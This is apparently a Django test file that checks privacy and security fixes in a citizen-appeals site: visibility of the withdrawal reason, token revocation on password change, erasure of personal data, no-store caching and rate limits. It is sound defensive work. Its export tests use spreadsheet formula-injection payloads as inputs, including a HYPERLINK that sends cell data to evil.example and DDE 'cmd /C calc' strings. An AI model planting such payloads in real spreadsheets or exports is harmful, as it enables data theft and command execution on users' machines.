"""Security findings of issue 17: who sees a citizen's own words, what a password change
ends, what erasure leaves behind, what exports and caches may do with personal data."""

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from appeals import services
from appeals.models import AppealEvent

from .appeals.helpers import as_scope, file_appeal
from .helpers import person

pytestmark = pytest.mark.django_db

# What a citizen may write when withdrawing: health and a phone number.
PRIVATE_REASON = "Лежу в больнице с диабетом, звоните +7 916 555-12-34"


@pytest.fixture
def withdrawn(citizen, deputy):
    appeal = file_appeal(citizen, chosen_deputy=deputy)
    services.appeal_withdraw(
        scope=as_scope(citizen), appeal=appeal, actor=citizen, reason=PRIVATE_REASON
    )
    return appeal


# --- 1. The withdrawal reason ---------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "reads_reason"),
    [("citizen", True), ("deputy", True), ("committee", False), ("federal", False)],
)
def test_withdrawal_reason_in_the_api_only_for_those_who_read_the_text(
    role, reads_reason, withdrawn, request
):
    api = APIClient()
    api.force_authenticate(person(role, request))

    response = api.get(reverse("api:appeal-detail", args=[withdrawn.number]))

    assert response.status_code == 200
    event = next(e for e in response.json()["events"] if e["type"] == "withdrawn")
    assert event["to_status"] == "withdrawn"  # everyone sees that it was withdrawn
    assert (PRIVATE_REASON in response.content.decode()) is reads_reason
    assert event["reason"] == (PRIVATE_REASON if reads_reason else "")


@pytest.mark.parametrize(
    ("role", "reads_reason"),
    [("citizen", True), ("deputy", True), ("committee", False), ("federal", False)],
)
def test_withdrawal_reason_on_the_history_page_only_for_those_who_read_the_text(
    role, reads_reason, withdrawn, client, request
):
    client.force_login(person(role, request))

    response = client.get(withdrawn.get_absolute_url())

    assert response.status_code == 200
    page = response.content.decode()
    assert "Отозвано" in page
    assert (PRIVATE_REASON in page) is reads_reason


def test_erasure_blanks_the_withdrawal_reason(withdrawn, citizen):
    from appeals.personal_data import personal_data_erase

    personal_data_erase(scope=as_scope(citizen), user=citizen)

    assert AppealEvent.objects.get(appeal=withdrawn, type="withdrawn").reason == ""


# --- 4. A password change revokes API tokens --------------------------------------------

NEW_PASSWORD = "brand-new-Secret-77"


def _token_api(user):
    from accounts.services import user_issue_token

    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {user_issue_token(user=user)}")
    return api


def _change_in_profile(client, user):
    client.force_login(user)
    return client.post(
        reverse("password_change"),
        {
            "old_password": "correct-horse-42",
            "new_password1": NEW_PASSWORD,
            "new_password2": NEW_PASSWORD,
        },
    )


def _reset_by_e_mail(client, user):
    import re

    from django.core import mail

    client.post(reverse("password_reset"), {"email": user.email})
    link = re.search(r"http://testserver(/\S+)", mail.outbox[-1].body).group(1)
    form_page = client.get(link, follow=True)
    return client.post(
        form_page.redirect_chain[-1][0],
        {"new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD},
    )


def _set_by_an_operator(client, user):
    from tests.factories import UserFactory

    operator = UserFactory(role="admin", is_staff=True, is_superuser=True)
    client.force_login(operator)
    return client.post(
        reverse("admin:auth_user_password_change", args=[user.pk]),
        {"password1": NEW_PASSWORD, "password2": NEW_PASSWORD, "usable_password": "true"},
    )


def _set_in_code(client, user):
    # The `changepassword` command and any script go this way.
    user.set_password(NEW_PASSWORD)
    user.save()
    return None


@pytest.mark.parametrize(
    "change", [_change_in_profile, _reset_by_e_mail, _set_by_an_operator, _set_in_code]
)
def test_a_new_password_revokes_the_api_token(change, citizen, client):
    api = _token_api(citizen)
    assert api.get(reverse("api:appeal-list")).status_code == 200

    response = change(client, citizen)

    if response is not None:
        assert response.status_code == 302, response.content.decode()[:2000]
    citizen.refresh_from_db()
    assert citizen.check_password(NEW_PASSWORD)  # the change went through
    assert api.get(reverse("api:appeal-list")).status_code == 401


def test_signing_in_or_saving_the_profile_keeps_the_token(citizen, client):
    api = _token_api(citizen)

    client.post(reverse("login"), {"username": citizen.email, "password": "correct-horse-42"})
    client.post(reverse("accounts:profile"), {"full_name": "Иванов Иван", "phone": ""})

    assert api.get(reverse("api:appeal-list")).status_code == 200


# --- 7. Exports do not run formulas -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "+7(916)555-12-34",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_deputies(committee):
    from ratings import services as rating_services
    from tests.factories import DeputyFactory

    for name in FORMULAS:
        DeputyFactory(region_code="77", full_name=name)
    rating_services.ratings_recompute()
    return committee


def test_csv_export_writes_formulas_as_text(client, formula_deputies):
    import csv
    import io

    client.force_login(formula_deputies)

    response = client.get(reverse("ratings:region_table"), {"format": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + name for name in FORMULAS}


def test_xlsx_export_writes_formulas_as_strings(client, formula_deputies):
    import io

    from openpyxl import load_workbook

    client.force_login(formula_deputies)

    response = client.get(reverse("ratings:region_table"), {"format": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    # XML keeps no bare CR: it comes back as LF.
    assert {c.value for c in cells} == {name.replace("\r", "\n") for name in FORMULAS}
    assert {c.data_type for c in cells} == {"s"}  # not "f": Excel shows them, runs nothing


# --- 8. Pages with personal data are not stored by browsers or proxies --------------------


def _pages(appeal):
    number = appeal.number
    attachment = appeal.attachments.get()
    return {
        "citizen": [
            ("get", reverse("accounts:profile")),
            ("post", reverse("accounts:issue_token")),  # the page that shows the token
            ("get", reverse("appeals:appeal_list")),
            ("get", reverse("appeals:appeal_create") + "?region=77"),
            ("get", reverse("appeals:appeal_detail", args=[number])),
            ("get", reverse("appeals:attachment_download", args=[number, attachment.token])),
            ("get", reverse("appeals:notification_list")),
            ("get", reverse("appeals:personal_data_download")),
            ("get", reverse("appeals:personal_data_erase")),
            ("post", reverse("feedback:feedback_leave", args=[number])),  # the page again, 400
        ],
        "deputy": [
            ("get", reverse("appeals:dashboard")),
            ("get", reverse("appeals:appeal_detail", args=[number])),
            ("post", reverse("appeals:appeal_reply", args=[number])),  # the form again, 400
        ],
        "committee": [("get", reverse("appeals:committee_queue"))],
    }


@pytest.mark.parametrize("role", ["citizen", "deputy", "committee"])
def test_pages_with_personal_data_are_not_stored(role, citizen, deputy, client, request):
    from .appeals.helpers import pdf_upload

    appeal = file_appeal(citizen, chosen_deputy=deputy, files=[pdf_upload()])
    client.force_login(person(role, request))

    for method, url in _pages(appeal)[role]:
        response = getattr(client, method)(url)
        assert response.status_code in (200, 400), url
        assert "no-store" in response.get("Cache-Control", ""), url


def test_a_public_page_may_still_be_cached(client, deputy):
    response = client.get(reverse("home"))
    assert "no-store" not in response.get("Cache-Control", "")


def test_the_filing_page_refused_for_speed_says_when_to_come_back(
    client, citizen, deputy, monkeypatch
):
    from appeals.throttling import FilingThrottle

    from .appeals.helpers import form_data

    monkeypatch.setattr(FilingThrottle, "THROTTLE_RATES", {"filing": "1/min"})
    client.force_login(citizen)
    assert client.post(reverse("appeals:appeal_create"), form_data()).status_code == 302

    refused = client.post(reverse("appeals:appeal_create"), form_data(token="tok-456"))

    assert refused.status_code == 429
    assert 0 < int(refused["Retry-After"]) <= 60


def test_the_sign_in_lock_says_when_to_come_back(client, citizen):
    wrong = {"username": citizen.email, "password": "guess"}
    for _ in range(5):
        response = client.post(reverse("login"), wrong)

    assert response.status_code == 429
    assert 0 < int(response["Retry-After"]) <= 15 * 60


# --- 6. Erasure leaves nothing that names the person --------------------------------------

NAMED_LIKE_PERSONAL_DATA = {
    "email",
    "name",
    "phone",
    "address",
    "username",
    "ip",
    "text",
    "body",
    "reason",
}
HOLDS_TEXT = (
    "CharField",
    "TextField",
    "EmailField",
    "JSONField",
    "GenericIPAddressField",
    "FileField",
    "SlugField",
    "URLField",
)


def _text_fields(model):
    return [f for f in model._meta.concrete_fields if f.get_internal_type() in HOLDS_TEXT]


def _named_like_personal_data(field):
    parts = set(field.name.split("_"))
    return bool(parts & NAMED_LIKE_PERSONAL_DATA) or any(
        word in field.name for word in ("email", "name", "phone", "address")
    )


def test_every_field_named_like_personal_data_is_erased_or_explained():
    from django.apps import apps

    from appeals.personal_data import NOT_PERSONAL, PERSONAL_FIELDS

    unexplained = []
    for model in apps.get_models():
        label = model._meta.label
        listed = {*PERSONAL_FIELDS.get(label, ()), *NOT_PERSONAL.get(label, ())}
        unexplained += [
            f"{label}.{f.name}"
            for f in _text_fields(model)
            if _named_like_personal_data(f) and f.name not in listed
        ]
    assert unexplained == []
    for label, fields in {**PERSONAL_FIELDS, **NOT_PERSONAL}.items():
        model = apps.get_model(label)  # the lists name real models and fields
        assert {model._meta.get_field(name).name for name in fields} == set(fields)


@pytest.fixture
def zoya(db):
    from tests.factories import CitizenFactory

    return CitizenFactory(
        email="zoya.personova@example.org", full_name="Зоя Персонова", phone="+7 916 000-11-22"
    )


ZOYA = [
    "zoya.personova@example.org",
    "Зоя Персонова",
    "Персонова",
    "+7 916 000-11-22",
    "000-11-22",
    "ул. Тайная, 13",
]


def _leave_traces_everywhere(zoya, deputy, other_committee, client):
    """Zoya's e-mail, name, phone and address in every place the site keeps them."""
    from django.contrib.admin.models import CHANGE, LogEntry
    from django.test import Client

    from accounts.services import user_issue_token
    from feedback.services import feedback_leave
    from tests.factories import DeputyFactory, UserFactory

    from .appeals.helpers import pdf_upload

    says = "Я, Зоя Персонова, ул. Тайная, 13, тел. +7 916 000-11-22"
    answered = file_appeal(
        zoya,
        chosen_deputy=deputy,
        subject="Персонова: яма",
        text=says,
        address="ул. Тайная, 13",
        files=[pdf_upload("Персонова.pdf")],
    )
    other_deputy = DeputyFactory(region_code="77")
    services.appeal_extend(
        scope=as_scope(deputy),
        appeal=answered,
        actor=deputy.user,
        days=5,
        reason="Ждём ответа управы для Зои Персоновой",
    )
    services.appeal_follow_up(
        scope=as_scope(zoya), appeal=answered, actor=zoya, text="Мой телефон +7 916 000-11-22"
    )
    services.appeal_reply(
        scope=as_scope(deputy),
        appeal=answered,
        actor=deputy.user,
        text="Уважаемая Зоя Персонова, яму заделали.",
        final=True,
    )
    feedback_leave(
        scope=as_scope(zoya),
        appeal=answered,
        actor=zoya,
        overall=5,
        solved="yes",
        speed=5,
        personal=5,
        comment="Спасибо! Зоя Персонова",
    )
    redirected = file_appeal(zoya, chosen_deputy=deputy, text=says)
    services.appeal_redirect(
        scope=as_scope(deputy),
        appeal=redirected,
        actor=deputy.user,
        to_deputy=other_deputy,
        reason="Персонова живёт в его округе",
    )
    rejected = file_appeal(zoya, chosen_deputy=deputy, text=says)
    services.appeal_reject(
        scope=as_scope(deputy),
        appeal=rejected,
        actor=deputy.user,
        reason="repeat",
        details="Персонова уже получила ответ",
    )
    withdrawn = file_appeal(zoya, chosen_deputy=deputy, text=says)
    services.appeal_withdraw(
        scope=as_scope(zoya), appeal=withdrawn, actor=zoya, reason="Звоните +7 916 000-11-22"
    )
    queued = file_appeal(zoya, region_code="78", text=says, address="ул. Тайная, 13")
    staff = Client()
    staff.force_login(other_committee)
    assert "zoya.personova" in staff.get(queued.get_absolute_url()).content.decode()
    user_issue_token(user=zoya)
    # Sign-in logs: a sign-in, then a mistyped password with the e-mail in capitals.
    client.post(reverse("login"), {"username": zoya.email, "password": "correct-horse-42"})
    Client().post(reverse("login"), {"username": zoya.email.upper(), "password": "nope"})
    operator = UserFactory(role="admin", is_staff=True, is_superuser=True)
    for obj in (zoya, answered):
        LogEntry.objects.log_actions(
            user_id=operator.pk,
            queryset=[obj],
            action_flag=CHANGE,
            change_message="Персонова просила",
        )
    return [answered, redirected, rejected, withdrawn, queued]


def test_erasure_leaves_no_trace_of_the_person_in_any_model(zoya, deputy, other_committee, client):
    from django.apps import apps
    from django.core import mail
    from rest_framework.authtoken.models import Token

    from appeals.models import ContactAccessLog, Notification
    from appeals.notifications import notifications_send_pending
    from appeals.personal_data import PERSONAL_FIELDS
    from feedback.models import Feedback

    appeals = _leave_traces_everywhere(zoya, deputy, other_committee, client)
    assert Notification.objects.filter(user=zoya, emailed_at__isnull=True).exists()
    assert Feedback.objects.filter(appeal=appeals[0]).exists()
    mail.outbox.clear()

    client.post(
        reverse("appeals:personal_data_erase"), {"password": "correct-horse-42", "confirm": "on"}
    )

    found = []
    for model in apps.get_models():
        fields = _text_fields(model)
        registered = PERSONAL_FIELDS.get(model._meta.label, ())
        assert set(registered) <= {f.name for f in fields}
        for row in model._default_manager.values_list("pk", *[f.name for f in fields]):
            for field, value in zip(fields, row[1:], strict=True):
                text = str(value).lower()
                found += [
                    f"{model._meta.label}.{field.name}: {value!r}"
                    for trace in ZOYA
                    if trace.lower() in text
                ]
    assert found == []
    assert not Notification.objects.filter(user=zoya).exists()  # the outbox
    notifications_send_pending()
    assert [m for m in mail.outbox if zoya.email in m.to] == []
    assert not ContactAccessLog.objects.filter(citizen=zoya).exists()
    assert not Token.objects.filter(user=zoya).exists()
    assert Feedback.objects.get(appeal=appeals[0]).overall == 5  # the statistics stay


def test_erasure_signs_the_person_out_everywhere(zoya, client):
    from django.test import Client

    other_browser = Client()
    other_browser.force_login(zoya)
    assert other_browser.get(reverse("accounts:profile")).status_code == 200
    client.force_login(zoya)

    client.post(
        reverse("appeals:personal_data_erase"), {"password": "correct-horse-42", "confirm": "on"}
    )

    assert other_browser.get(reverse("accounts:profile")).status_code == 302
